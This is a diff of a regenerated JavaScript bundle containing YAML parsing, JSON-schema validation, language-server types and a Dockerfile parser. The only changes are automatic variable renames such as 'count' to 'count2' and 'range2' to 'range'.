@@ -61,12 +61,12 @@ var require_identity = __commonJS({
     var SCALAR = /* @__PURE__ */ Symbol.for("yaml.scalar");
     var SEQ = /* @__PURE__ */ Symbol.for("yaml.seq");
     var NODE_TYPE = /* @__PURE__ */ Symbol.for("yaml.node.type");
-    var isAlias2 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === ALIAS;
+    var isAlias3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === ALIAS;
     var isDocument = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === DOC;
-    var isMap3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === MAP;
-    var isPair2 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === PAIR;
-    var isScalar2 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SCALAR;
-    var isSeq2 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SEQ;
+    var isMap4 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === MAP;
+    var isPair3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === PAIR;
+    var isScalar3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SCALAR;
+    var isSeq3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SEQ;
     function isCollection2(node) {
       if (node && typeof node === "object")
         switch (node[NODE_TYPE]) {
@@ -87,7 +87,7 @@ var require_identity = __commonJS({
         }
       return false;
     }
-    var hasAnchor = (node) => (isScalar2(node) || isCollection2(node)) && !!node.anchor;
+    var hasAnchor = (node) => (isScalar3(node) || isCollection2(node)) && !!node.anchor;
     exports.ALIAS = ALIAS;
     exports.DOC = DOC;
     exports.MAP = MAP;
@@ -96,14 +96,14 @@ var require_identity = __commonJS({
     exports.SCALAR = SCALAR;
     exports.SEQ = SEQ;
     exports.hasAnchor = hasAnchor;
-    exports.isAlias = isAlias2;
+    exports.isAlias = isAlias3;
     exports.isCollection = isCollection2;
     exports.isDocument = isDocument;
-    exports.isMap = isMap3;
+    exports.isMap = isMap4;
     exports.isNode = isNode;
-    exports.isPair = isPair2;
-    exports.isScalar = isScalar2;
-    exports.isSeq = isSeq2;
+    exports.isPair = isPair3;
+    exports.isScalar = isScalar3;
+    exports.isSeq = isSeq3;
   }
 });
 
@@ -618,8 +618,8 @@ var require_Node = __commonJS({
         };
         const res = toJS.toJS(this, "", ctx);
         if (typeof onAnchor === "function")
-          for (const { count, res: res2 } of ctx.anchors.values())
-            onAnchor(res2, count);
+          for (const { count: count2, res: res2 } of ctx.anchors.values())
+            onAnchor(res2, count2);
         return typeof reviver === "function" ? applyReviver.applyReviver(reviver, { "": res }, "", res) : res;
       }
     };
@@ -727,13 +727,13 @@ var require_Alias = __commonJS({
         const anchor2 = anchors2 && source && anchors2.get(source);
         return anchor2 ? anchor2.count * anchor2.aliasCount : 0;
       } else if (identity.isCollection(node)) {
-        let count = 0;
+        let count2 = 0;
         for (const item of node.items) {
           const c = getAliasCount(doc, item, anchors2);
-          if (c > count)
-            count = c;
+          if (c > count2)
+            count2 = c;
         }
-        return count;
+        return count2;
       } else if (identity.isPair(node)) {
         const kc = getAliasCount(doc, node.key, anchors2);
         const vc = getAliasCount(doc, node.value, anchors2);
@@ -1725,7 +1725,7 @@ var require_merge = __commonJS({
       }),
       stringify: () => MERGE_KEY
     };
-    var isMergeKey = (ctx, key) => (merge.identify(key) || identity.isScalar(key) && (!key.type || key.type === Scalar2.Scalar.PLAIN) && merge.identify(key.value)) && ctx?.doc.schema.tags.some((tag) => tag.tag === merge.tag && tag.default);
+    var isMergeKey2 = (ctx, key) => (merge.identify(key) || identity.isScalar(key) && (!key.type || key.type === Scalar2.Scalar.PLAIN) && merge.identify(key.value)) && ctx?.doc.schema.tags.some((tag) => tag.tag === merge.tag && tag.default);
     function addMergeToJSMap(ctx, map, value) {
       const source = resolveAliasValue(ctx, value);
       if (identity.isSeq(source))
@@ -1763,7 +1763,7 @@ var require_merge = __commonJS({
       return ctx && identity.isAlias(value) ? value.resolve(ctx.doc, ctx) : value;
     }
     exports.addMergeToJSMap = addMergeToJSMap;
-    exports.isMergeKey = isMergeKey;
+    exports.isMergeKey = isMergeKey2;
     exports.merge = merge;
   }
 });
@@ -3686,8 +3686,8 @@ var require_Document = __commonJS({
         };
         const res = toJS.toJS(this.contents, jsonArg ?? "", ctx);
         if (typeof onAnchor === "function")
-          for (const { count, res: res2 } of ctx.anchors.values())
-            onAnchor(res2, count);
+          for (const { count: count2, res: res2 } of ctx.anchors.values())
+            onAnchor(res2, count2);
         return typeof reviver === "function" ? applyReviver.applyReviver(reviver, { "": res }, "", res) : res;
       }
       /**
@@ -3764,12 +3764,12 @@ var require_errors = __commonJS({
         lineStr = prev + lineStr;
       }
       if (/[^ ]/.test(lineStr)) {
-        let count = 1;
+        let count2 = 1;
         const end = error.linePos[1];
         if (end?.line === line && end.col > col) {
-          count = Math.max(1, Math.min(end.col - col, 80 - ci));
+          count2 = Math.max(1, Math.min(end.col - col, 80 - ci));
         }
-        const pointer = " ".repeat(ci) + "^".repeat(count);
+        const pointer = " ".repeat(ci) + "^".repeat(count2);
         error.message += `:
 
 ${lineStr}
@@ -4211,9 +4211,9 @@ var require_resolve_flow_collection = __commonJS({
     var blockMsg = "Block collections are not allowed within flow collections";
     var isBlock = (token) => token && (token.type === "block-map" || token.type === "block-seq");
     function resolveFlowCollection({ composeNode, composeEmptyNode }, ctx, fc, onError, tag) {
-      const isMap3 = fc.start.source === "{";
-      const fcName = isMap3 ? "flow map" : "flow sequence";
-      const NodeClass = tag?.nodeClass ?? (isMap3 ? YAMLMap.YAMLMap : YAMLSeq.YAMLSeq);
+      const isMap4 = fc.start.source === "{";
+      const fcName = isMap4 ? "flow map" : "flow sequence";
+      const NodeClass = tag?.nodeClass ?? (isMap4 ? YAMLMap.YAMLMap : YAMLSeq.YAMLSeq);
       const coll = new NodeClass(ctx.schema);
       coll.flow = true;
       const atRoot = ctx.atRoot;
@@ -4249,7 +4249,7 @@ var require_resolve_flow_collection = __commonJS({
             offset = props.end;
             continue;
           }
-          if (!isMap3 && ctx.options.strict && utilContainsNewline.containsNewline(key))
+          if (!isMap4 && ctx.options.strict && utilContainsNewline.containsNewline(key))
             onError(
               key,
               // checked by containsNewline()
@@ -4289,7 +4289,7 @@ var require_resolve_flow_collection = __commonJS({
             }
           }
         }
-        if (!isMap3 && !sep7 && !props.found) {
+        if (!isMap4 && !sep7 && !props.found) {
           const valueNode = value ? composeNode(ctx, value, props, onError) : composeEmptyNode(ctx, props.end, sep7, null, props, onError);
           coll.items.push(valueNode);
           offset = valueNode.range[2];
@@ -4312,7 +4312,7 @@ var require_resolve_flow_collection = __commonJS({
             startOnNewline: false
           });
           if (valueProps.found) {
-            if (!isMap3 && !props.found && ctx.options.strict) {
+            if (!isMap4 && !props.found && ctx.options.strict) {
               if (sep7)
                 for (const st of sep7) {
                   if (st === valueProps.found)
@@ -4344,7 +4344,7 @@ var require_resolve_flow_collection = __commonJS({
           const pair = new Pair.Pair(keyNode, valueNode);
           if (ctx.options.keepSourceTokens)
             pair.srcToken = collItem;
-          if (isMap3) {
+          if (isMap4) {
             const map = coll;
             if (utilMapIncludes.mapIncludes(ctx, map.items, keyNode))
               onError(keyStart, "DUPLICATE_KEY", "Map keys must be unique");
@@ -4360,7 +4360,7 @@ var require_resolve_flow_collection = __commonJS({
           offset = valueNode ? valueNode.range[2] : valueProps.end;
         }
       }
-      const expectedEnd = isMap3 ? "}" : "]";
+      const expectedEnd = isMap4 ? "}" : "]";
       const [ce, ...ee] = fc.end;
       let cePos = offset;
       if (ce?.source === expectedEnd)
@@ -4868,7 +4868,7 @@ var require_compose_scalar = __commonJS({
     var resolveBlockScalar = require_resolve_block_scalar();
     var resolveFlowScalar = require_resolve_flow_scalar();
     function composeScalar(ctx, token, tagToken, onError) {
-      const { value, type, comment, range: range2 } = token.type === "block-scalar" ? resolveBlockScalar.resolveBlockScalar(ctx, token, onError) : resolveFlowScalar.resolveFlowScalar(token, ctx.options.strict, onError);
+      const { value, type, comment, range } = token.type === "block-scalar" ? resolveBlockScalar.resolveBlockScalar(ctx, token, onError) : resolveFlowScalar.resolveFlowScalar(token, ctx.options.strict, onError);
       const tagName = tagToken ? ctx.directives.tagName(tagToken.source, (msg) => onError(tagToken, "TAG_RESOLVE_FAILED", msg)) : null;
       let tag;
       if (ctx.options.stringKeys && ctx.atKey) {
@@ -4888,7 +4888,7 @@ var require_compose_scalar = __commonJS({
         onError(tagToken ?? token, "TAG_RESOLVE_FAILED", msg);
         scalar = new Scalar2.Scalar(value);
       }
-      scalar.range = range2;
+      scalar.range = range;
       scalar.source = value;
       if (type)
         scalar.type = type;
@@ -5163,7 +5163,7 @@ var require_composer = __commonJS({
       }
       return { comment, afterEmptyLine };
     }
-    var Composer = class {
+    var Composer2 = class {
       constructor(options = {}) {
         this.doc = null;
         this.atDirectives = false;
@@ -5323,7 +5323,7 @@ ${end.comment}` : end.comment;
         }
       }
     };
-    exports.Composer = Composer;
+    exports.Composer = Composer2;
   }
 });
 
@@ -5647,7 +5647,7 @@ var require_cst = __commonJS({
     var FLOW_END = "";
     var SCALAR = "";
     var isCollection2 = (token) => !!token && "items" in token;
-    var isScalar2 = (token) => !!token && (token.type === "scalar" || token.type === "single-quoted-scalar" || token.type === "double-quoted-scalar" || token.type === "block-scalar");
+    var isScalar3 = (token) => !!token && (token.type === "scalar" || token.type === "single-quoted-scalar" || token.type === "double-quoted-scalar" || token.type === "block-scalar");
     function prettyToken(token) {
       switch (token) {
         case BOM:
@@ -5731,7 +5731,7 @@ var require_cst = __commonJS({
     exports.FLOW_END = FLOW_END;
     exports.SCALAR = SCALAR;
     exports.isCollection = isCollection2;
-    exports.isScalar = isScalar2;
+    exports.isScalar = isScalar3;
     exports.prettyToken = prettyToken;
     exports.tokenType = tokenType;
   }
@@ -5779,16 +5779,16 @@ var require_lexer = __commonJS({
        *
        * @returns A generator of lexical tokens
        */
-      *lex(source, incomplete = false) {
+      *lex(source, incomplete2 = false) {
         if (source) {
           if (typeof source !== "string")
             throw TypeError("source is not a string");
           this.buffer = this.buffer ? this.buffer + source : source;
           this.lineEndPos = null;
         }
-        this.atEnd = !incomplete;
+        this.atEnd = !incomplete2;
         let next = this.next ?? "stream";
-        while (next && (incomplete || this.hasChars(1)))
+        while (next && (incomplete2 || this.hasChars(1)))
           next = yield* this.parseNext(next);
       }
       atLineEnd() {
@@ -6454,7 +6454,7 @@ var require_parser = __commonJS({
         }
       }
     }
-    var Parser2 = class {
+    var Parser4 = class {
       /**
        * @param onNewLine - If defined, called separately with the start position of
        *   each new line (in `parse()`, including the start of input).
@@ -6479,12 +6479,12 @@ var require_parser = __commonJS({
        *
        * @returns A generator of tokens representing each directive, document, and other structure.
        */
-      *parse(source, incomplete = false) {
+      *parse(source, incomplete2 = false) {
         if (this.onNewLine && this.offset === 0)
           this.onNewLine(0);
-        for (const lexeme of this.lexer.lex(source, incomplete))
+        for (const lexeme of this.lexer.lex(source, incomplete2))
           yield* this.next(lexeme);
-        if (!incomplete)
+        if (!incomplete2)
           yield* this.end();
       }
       /**
@@ -7227,7 +7227,7 @@ var require_parser = __commonJS({
         }
       }
     };
-    exports.Parser = Parser2;
+    exports.Parser = Parser4;
   }
 });
 
@@ -7247,7 +7247,7 @@ var require_public_api = __commonJS({
       const lineCounter$1 = options.lineCounter || prettyErrors && new lineCounter.LineCounter() || null;
       return { lineCounter: lineCounter$1, prettyErrors };
     }
-    function parseAllDocuments2(source, options = {}) {
+    function parseAllDocuments(source, options = {}) {
       const { lineCounter: lineCounter2, prettyErrors } = parseOptions(options);
       const parser$1 = new parser.Parser(lineCounter2?.addNewLine);
       const composer$1 = new composer.Composer(options);
@@ -7322,7 +7322,7 @@ var require_public_api = __commonJS({
       return new Document.Document(value, _replacer, options).toString(options);
     }
     exports.parse = parse2;
-    exports.parseAllDocuments = parseAllDocuments2;
+    exports.parseAllDocuments = parseAllDocuments;
     exports.parseDocument = parseDocument2;
     exports.stringify = stringify;
   }
@@ -9567,20 +9567,20 @@ var require_resolve = __commonJS({
       return false;
     }
     function countKeys(schema) {
-      let count = 0;
+      let count2 = 0;
       for (const key in schema) {
         if (key === "$ref")
           return Infinity;
-        count++;
+        count2++;
         if (SIMPLE_INLINED.has(key))
           continue;
         if (typeof schema[key] == "object") {
-          (0, util_1.eachItem)(schema[key], (sch) => count += countKeys(sch));
+          (0, util_1.eachItem)(schema[key], (sch) => count2 += countKeys(sch));
         }
-        if (count === Infinity)
+        if (count2 === Infinity)
           return Infinity;
       }
-      return count;
+      return count2;
     }
     function getFullPath(resolver, id = "", normalize2) {
       if (normalize2 !== false)
@@ -13118,8 +13118,8 @@ var require_contains = __commonJS({
         cxt.result(valid, () => cxt.reset());
         function validateItemsWithCount() {
           const schValid = gen.name("_valid");
-          const count = gen.let("count", 0);
-          validateItems(schValid, () => gen.if(schValid, () => checkLimits(count)));
+          const count2 = gen.let("count", 0);
+          validateItems(schValid, () => gen.if(schValid, () => checkLimits(count2)));
         }
         function validateItems(_valid, block) {
           gen.forRange("i", 0, len, (i) => {
@@ -13132,16 +13132,16 @@ var require_contains = __commonJS({
             block();
           });
         }
-        function checkLimits(count) {
-          gen.code((0, codegen_1._)`${count}++`);
+        function checkLimits(count2) {
+          gen.code((0, codegen_1._)`${count2}++`);
           if (max === void 0) {
-            gen.if((0, codegen_1._)`${count} >= ${min}`, () => gen.assign(valid, true).break());
+            gen.if((0, codegen_1._)`${count2} >= ${min}`, () => gen.assign(valid, true).break());
           } else {
-            gen.if((0, codegen_1._)`${count} > ${max}`, () => gen.assign(valid, false).break());
+            gen.if((0, codegen_1._)`${count2} > ${max}`, () => gen.assign(valid, false).break());
             if (min === 1)
               gen.assign(valid, true);
             else
-              gen.if((0, codegen_1._)`${count} >= ${min}`, () => gen.assign(valid, true));
+              gen.if((0, codegen_1._)`${count2} >= ${min}`, () => gen.assign(valid, true));
           }
         }
       }
@@ -15116,9 +15116,9 @@ var require_argument = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.Argument = void 0;
     var Argument = class {
-      constructor(value, range2) {
+      constructor(value, range) {
         this.value = value;
-        this.range = range2;
+        this.range = range;
       }
       toString() {
         return this.value;
@@ -15154,8 +15154,8 @@ var require_jsonArgument = __commonJS({
     exports.JSONArgument = void 0;
     var argument_1 = require_argument();
     var JSONArgument = class extends argument_1.Argument {
-      constructor(value, range2, jsonRange) {
-        super(value, range2);
+      constructor(value, range, jsonRange) {
+        super(value, range);
         this.jsonRange = jsonRange;
       }
       getJSONRange() {
@@ -15327,8 +15327,8 @@ var init_main = __esm({
       Range2.is = is;
     })(Range || (Range = {}));
     (function(Location2) {
-      function create(uri, range2) {
-        return { uri, range: range2 };
+      function create(uri, range) {
+        return { uri, range };
       }
       Location2.create = create;
       function is(value) {
@@ -15365,9 +15365,9 @@ var init_main = __esm({
       Color2.is = is;
     })(Color || (Color = {}));
     (function(ColorInformation2) {
-      function create(range2, color) {
+      function create(range, color) {
         return {
-          range: range2,
+          range,
           color
         };
       }
@@ -15457,8 +15457,8 @@ var init_main = __esm({
       CodeDescription2.is = is;
     })(CodeDescription || (CodeDescription = {}));
     (function(Diagnostic2) {
-      function create(range2, message, severity, code, source, relatedInformation) {
-        const result = { range: range2, message };
+      function create(range, message, severity, code, source, relatedInformation) {
+        const result = { range, message };
         if (Is.defined(severity)) {
           result.severity = severity;
         }
@@ -15511,16 +15511,16 @@ var init_main = __esm({
       Command2.is = is;
     })(Command || (Command = {}));
     (function(TextEdit2) {
-      function replace(range2, newText) {
-        return { range: range2, newText };
+      function replace(range, newText) {
+        return { range, newText };
       }
       TextEdit2.replace = replace;
       function insert(position2, newText) {
         return { range: { start: position2, end: position2 }, newText };
       }
       TextEdit2.insert = insert;
-      function del(range2) {
-        return { range: range2, newText: "" };
+      function del(range) {
+        return { range, newText: "" };
       }
       TextEdit2.del = del;
       function is(value) {
@@ -15555,16 +15555,16 @@ var init_main = __esm({
       ChangeAnnotationIdentifier2.is = is;
     })(ChangeAnnotationIdentifier || (ChangeAnnotationIdentifier = {}));
     (function(AnnotatedTextEdit2) {
-      function replace(range2, newText, annotation) {
-        return { range: range2, newText, annotationId: annotation };
+      function replace(range, newText, annotation) {
+        return { range, newText, annotationId: annotation };
       }
       AnnotatedTextEdit2.replace = replace;
       function insert(position2, newText, annotation) {
         return { range: { start: position2, end: position2 }, newText, annotationId: annotation };
       }
       AnnotatedTextEdit2.insert = insert;
-      function del(range2, annotation) {
-        return { range: range2, newText: "", annotationId: annotation };
+      function del(range, annotation) {
+        return { range, newText: "", annotationId: annotation };
       }
       AnnotatedTextEdit2.del = del;
       function is(value) {
@@ -15684,36 +15684,36 @@ var init_main = __esm({
           return id;
         }
       }
-      replace(range2, newText, annotation) {
+      replace(range, newText, annotation) {
         let edit;
         let id;
         if (annotation === void 0) {
-          edit = TextEdit.replace(range2, newText);
+          edit = TextEdit.replace(range, newText);
         } else if (ChangeAnnotationIdentifier.is(annotation)) {
           id = annotation;
-          edit = AnnotatedTextEdit.replace(range2, newText, annotation);
+          edit = AnnotatedTextEdit.replace(range, newText, annotation);
         } else {
           this.assertChangeAnnotations(this.changeAnnotations);
           id = this.changeAnnotations.manage(annotation);
-          edit = AnnotatedTextEdit.replace(range2, newText, id);
+          edit = AnnotatedTextEdit.replace(range, newText, id);
         }
         this.edits.push(edit);
         if (id !== void 0) {
           return id;
         }
       }
-      delete(range2, annotation) {
+      delete(range, annotation) {
         let edit;
         let id;
         if (annotation === void 0) {
-          edit = TextEdit.del(range2);
+          edit = TextEdit.del(range);
         } else if (ChangeAnnotationIdentifier.is(annotation)) {
           id = annotation;
-          edit = AnnotatedTextEdit.del(range2, annotation);
+          edit = AnnotatedTextEdit.del(range, annotation);
         } else {
           this.assertChangeAnnotations(this.changeAnnotations);
           id = this.changeAnnotations.manage(annotation);
-          edit = AnnotatedTextEdit.del(range2, id);
+          edit = AnnotatedTextEdit.del(range, id);
         }
         this.edits.push(edit);
         if (id !== void 0) {
@@ -16176,8 +16176,8 @@ var init_main = __esm({
       DocumentHighlightKind2.Write = 3;
     })(DocumentHighlightKind || (DocumentHighlightKind = {}));
     (function(DocumentHighlight2) {
-      function create(range2, kind) {
-        const result = { range: range2 };
+      function create(range, kind) {
+        const result = { range };
         if (Is.number(kind)) {
           result.kind = kind;
         }
@@ -16217,11 +16217,11 @@ var init_main = __esm({
       SymbolTag2.Deprecated = 1;
     })(SymbolTag || (SymbolTag = {}));
     (function(SymbolInformation2) {
-      function create(name, kind, range2, uri, containerName) {
+      function create(name, kind, range, uri, containerName) {
         const result = {
           name,
           kind,
-          location: { uri, range: range2 }
+          location: { uri, range }
         };
         if (containerName) {
           result.containerName = containerName;
@@ -16231,18 +16231,18 @@ var init_main = __esm({
       SymbolInformation2.create = create;
     })(SymbolInformation || (SymbolInformation = {}));
     (function(WorkspaceSymbol2) {
-      function create(name, kind, uri, range2) {
-        return range2 !== void 0 ? { name, kind, location: { uri, range: range2 } } : { name, kind, location: { uri } };
+      function create(name, kind, uri, range) {
+        return range !== void 0 ? { name, kind, location: { uri, range } } : { name, kind, location: { uri } };
       }
       WorkspaceSymbol2.create = create;
     })(WorkspaceSymbol || (WorkspaceSymbol = {}));
     (function(DocumentSymbol2) {
-      function create(name, detail, kind, range2, selectionRange, children) {
+      function create(name, detail, kind, range, selectionRange, children) {
         const result = {
           name,
           detail,
           kind,
-          range: range2,
+          range,
           selectionRange
         };
         if (children !== void 0) {
@@ -16324,8 +16324,8 @@ var init_main = __esm({
       CodeAction2.is = is;
     })(CodeAction || (CodeAction = {}));
     (function(CodeLens2) {
-      function create(range2, data) {
-        const result = { range: range2 };
+      function create(range, data) {
+        const result = { range };
         if (Is.defined(data)) {
           result.data = data;
         }
@@ -16350,8 +16350,8 @@ var init_main = __esm({
       FormattingOptions2.is = is;
     })(FormattingOptions || (FormattingOptions = {}));
     (function(DocumentLink2) {
-      function create(range2, target, data) {
-        return { range: range2, target, data };
+      function create(range, target, data) {
+        return { range, target, data };
       }
       DocumentLink2.create = create;
       function is(value) {
@@ -16361,8 +16361,8 @@ var init_main = __esm({
       DocumentLink2.is = is;
     })(DocumentLink || (DocumentLink = {}));
     (function(SelectionRange2) {
-      function create(range2, parent) {
-        return { range: range2, parent };
+      function create(range, parent) {
+        return { range, parent };
       }
       SelectionRange2.create = create;
       function is(value) {
@@ -16417,8 +16417,8 @@ var init_main = __esm({
       SemanticTokens2.is = is;
     })(SemanticTokens || (SemanticTokens = {}));
     (function(InlineValueText2) {
-      function create(range2, text3) {
-        return { range: range2, text: text3 };
+      function create(range, text3) {
+        return { range, text: text3 };
       }
       InlineValueText2.create = create;
       function is(value) {
@@ -16428,8 +16428,8 @@ var init_main = __esm({
       InlineValueText2.is = is;
     })(InlineValueText || (InlineValueText = {}));
     (function(InlineValueVariableLookup2) {
-      function create(range2, variableName, caseSensitiveLookup) {
-        return { range: range2, variableName, caseSensitiveLookup };
+      function create(range, variableName, caseSensitiveLookup) {
+        return { range, variableName, caseSensitiveLookup };
       }
       InlineValueVariableLookup2.create = create;
       function is(value) {
@@ -16439,8 +16439,8 @@ var init_main = __esm({
       InlineValueVariableLookup2.is = is;
     })(InlineValueVariableLookup || (InlineValueVariableLookup = {}));
     (function(InlineValueEvaluatableExpression2) {
-      function create(range2, expression) {
-        return { range: range2, expression };
+      function create(range, expression) {
+        return { range, expression };
       }
       InlineValueEvaluatableExpression2.create = create;
       function is(value) {
@@ -16506,8 +16506,8 @@ var init_main = __esm({
       StringValue2.isSnippet = isSnippet;
     })(StringValue || (StringValue = {}));
     (function(InlineCompletionItem2) {
-      function create(insertText, filterText, range2, command) {
-        return { insertText, filterText, range: range2, command };
+      function create(insertText, filterText, range, command) {
+        return { insertText, filterText, range, command };
       }
       InlineCompletionItem2.create = create;
     })(InlineCompletionItem || (InlineCompletionItem = {}));
@@ -16522,8 +16522,8 @@ var init_main = __esm({
       InlineCompletionTriggerKind2.Automatic = 2;
     })(InlineCompletionTriggerKind || (InlineCompletionTriggerKind = {}));
     (function(SelectedCompletionInfo2) {
-      function create(range2, text3) {
-        return { range: range2, text: text3 };
+      function create(range, text3) {
+        return { range, text: text3 };
       }
       SelectedCompletionInfo2.create = create;
     })(SelectedCompletionInfo || (SelectedCompletionInfo = {}));
@@ -16621,10 +16621,10 @@ var init_main = __esm({
       get version() {
         return this._version;
       }
-      getText(range2) {
-        if (range2) {
-          const start = this.offsetAt(range2.start);
-          const end = this.offsetAt(range2.end);
+      getText(range) {
+        if (range) {
+          const start = this.offsetAt(range.start);
+          const end = this.offsetAt(range.end);
           return this._content.substring(start, end);
         }
         return this._content;
@@ -16747,9 +16747,9 @@ var require_line = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.Line = void 0;
     var Line = class {
-      constructor(document, range2) {
+      constructor(document, range) {
         this.document = document;
-        this.range = range2;
+        this.range = range;
       }
       getRange() {
         return this.range;
@@ -16820,15 +16820,15 @@ var require_util2 = __commonJS({
        * @param position the position to check
        * @param range the range to see if the position is inside of
        */
-      static isInsideRange(position2, range2) {
-        if (range2.start.line === range2.end.line) {
-          return range2.start.line === position2.line && range2.start.character <= position2.character && position2.character <= range2.end.character;
-        } else if (range2.start.line === position2.line) {
-          return range2.start.character <= position2.character;
-        } else if (range2.end.line === position2.line) {
-          return position2.character <= range2.end.character;
+      static isInsideRange(position2, range) {
+        if (range.start.line === range.end.line) {
+          return range.start.line === position2.line && range.start.character <= position2.character && position2.character <= range.end.character;
+        } else if (range.start.line === position2.line) {
+          return range.start.character <= position2.character;
+        } else if (range.end.line === position2.line) {
+          return position2.character <= range.end.character;
         }
-        return range2.start.line < position2.line && position2.line < range2.end.line;
+        return range.start.line < position2.line && position2.line < range.end.line;
       }
       static parseHeredocName(value) {
         value = value.substring(2);
@@ -16867,8 +16867,8 @@ var require_comment = __commonJS({
     var line_1 = require_line();
     var util_1 = require_util2();
     var Comment = class extends line_1.Line {
-      constructor(document, range2) {
-        super(document, range2);
+      constructor(document, range) {
+        super(document, range);
       }
       toString() {
         const content = this.getContent();
@@ -16883,11 +16883,11 @@ var require_comment = __commonJS({
        * consists of whitespace, the empty string will be returned.
        */
       getContent() {
-        let range2 = this.getContentRange();
-        if (range2 === null) {
+        let range = this.getContentRange();
+        if (range === null) {
           return "";
         }
-        return this.document.getText().substring(this.document.offsetAt(range2.start), this.document.offsetAt(range2.end));
+        return this.document.getText().substring(this.document.offsetAt(range.start), this.document.offsetAt(range.end));
       }
       /**
        * Returns a range that includes the content of the comment
@@ -16896,9 +16896,9 @@ var require_comment = __commonJS({
        * characters.
        */
       getContentRange() {
-        let range2 = this.getRange();
-        const startOffset = this.document.offsetAt(range2.start);
-        let raw = this.document.getText().substring(startOffset, this.document.offsetAt(range2.end));
+        let range = this.getRange();
+        const startOffset = this.document.offsetAt(range.start);
+        let raw = this.document.getText().substring(startOffset, this.document.offsetAt(range.end));
         let start = -1;
         let end = -1;
         for (let i = 1; i < raw.length; i++) {
@@ -16972,18 +16972,18 @@ function computeLineOffsets(text3, isAtLineStart, textOffset = 0) {
 function isEOL(char) {
   return char === 13 || char === 10;
 }
-function getWellformedRange(range2) {
-  const start = range2.start;
-  const end = range2.end;
+function getWellformedRange(range) {
+  const start = range.start;
+  const end = range.end;
   if (start.line > end.line || start.line === end.line && start.character > end.character) {
     return { start: end, end: start };
   }
-  return range2;
+  return range;
 }
 function getWellformedEdit(textEdit) {
-  const range2 = getWellformedRange(textEdit.range);
-  if (range2 !== textEdit.range) {
-    return { newText: textEdit.newText, range: range2 };
+  const range = getWellformedRange(textEdit.range);
+  if (range !== textEdit.range) {
+    return { newText: textEdit.newText, range };
   }
   return textEdit;
 }
@@ -17008,10 +17008,10 @@ var init_main2 = __esm({
       get version() {
         return this._version;
       }
-      getText(range2) {
-        if (range2) {
-          const start = this.offsetAt(range2.start);
-          const end = this.offsetAt(range2.end);
+      getText(range) {
+        if (range) {
+          const start = this.offsetAt(range.start);
+          const end = this.offsetAt(range.end);
           return this._content.substring(start, end);
         }
         return this._content;
@@ -17019,9 +17019,9 @@ var init_main2 = __esm({
       update(changes, version) {
         for (const change of changes) {
           if (_FullTextDocument.isIncremental(change)) {
-            const range2 = getWellformedRange(change.range);
-            const startOffset = this.offsetAt(range2.start);
-            const endOffset = this.offsetAt(range2.end);
+            const range = getWellformedRange(change.range);
+            const startOffset = this.offsetAt(range.start);
+            const endOffset = this.offsetAt(range.end);
             this._content = this._content.substring(0, startOffset) + change.text + this._content.substring(endOffset, this._content.length);
             const insertedEndOffset = startOffset + change.text.length;
             const crlfAtStart = this._content.charCodeAt(startOffset - 1) === 13 && this._content.charCodeAt(startOffset) === 10;
@@ -17030,8 +17030,8 @@ var init_main2 = __esm({
               this._lineOffsets = void 0;
               continue;
             }
-            const startLine = Math.max(range2.start.line, 0);
-            const endLine = Math.max(range2.end.line, 0);
+            const startLine = Math.max(range.start.line, 0);
+            const endLine = Math.max(range.end.line, 0);
             let lineOffsets = this._lineOffsets;
             const addedLineOffsets = computeLineOffsets(change.text, false, startOffset);
             if (endLine - startLine === addedLineOffsets.length) {
@@ -17196,8 +17196,8 @@ var require_parserDirective = __commonJS({
     var main_1 = require_main();
     var line_1 = require_line();
     var ParserDirective = class extends line_1.Line {
-      constructor(document, range2, nameRange, valueRange) {
-        super(document, range2);
+      constructor(document, range, nameRange, valueRange) {
+        super(document, range);
         this.nameRange = nameRange;
         this.valueRange = valueRange;
       }
@@ -17300,10 +17300,10 @@ var require_variable = __commonJS({
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.Variable = void 0;
     var Variable = class {
-      constructor(name, nameRange, range2, modifier, modifierRange, substitutionParameter, substitutionRange, defined, buildVariable, stringValue) {
+      constructor(name, nameRange, range, modifier, modifierRange, substitutionParameter, substitutionRange, defined, buildVariable, stringValue) {
         this.name = name;
         this.nameRange = nameRange;
-        this.range = range2;
+        this.range = range;
         this.modifier = modifier;
         this.modifierRange = modifierRange;
         this.substitutionParameter = substitutionParameter;
@@ -17405,8 +17405,8 @@ var require_instruction = __commonJS({
     var variable_1 = require_variable();
     var main_1 = require_main();
     var Instruction2 = class extends line_1.Line {
-      constructor(document, range2, dockerfile, escapeChar, instruction, instructionRange) {
-        super(document, range2);
+      constructor(document, range, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range);
         this.dockerfile = dockerfile;
         this.escapeChar = escapeChar;
         this.instruction = instruction;
@@ -17420,11 +17420,11 @@ var require_instruction = __commonJS({
         }
         return value;
       }
-      getRangeContent(range2) {
-        if (range2 === null) {
+      getRangeContent(range) {
+        if (range === null) {
           return null;
         }
-        return this.document.getText().substring(this.document.offsetAt(range2.start), this.document.offsetAt(range2.end));
+        return this.document.getText().substring(this.document.offsetAt(range.start), this.document.offsetAt(range.end));
       }
       getInstructionRange() {
         return this.instructionRange;
@@ -17453,11 +17453,11 @@ var require_instruction = __commonJS({
         let ranges = [];
         let end = -1;
         let startPosition = args[0].getRange().start;
-        let range2 = this.getInstructionRange();
-        let extra = this.document.offsetAt(startPosition) - this.document.offsetAt(range2.start);
+        let range = this.getInstructionRange();
+        let extra = this.document.offsetAt(startPosition) - this.document.offsetAt(range.start);
         let content = this.getTextContent();
-        let fullArgs = content.substring(extra, this.document.offsetAt(args[args.length - 1].getRange().end) - this.document.offsetAt(range2.start));
-        let offset = this.document.offsetAt(range2.start) + extra;
+        let fullArgs = content.substring(extra, this.document.offsetAt(args[args.length - 1].getRange().end) - this.document.offsetAt(range.start));
+        let offset = this.document.offsetAt(range.start) + extra;
         let start = false;
         let comment = false;
         for (let i = 0; i < fullArgs.length; i++) {
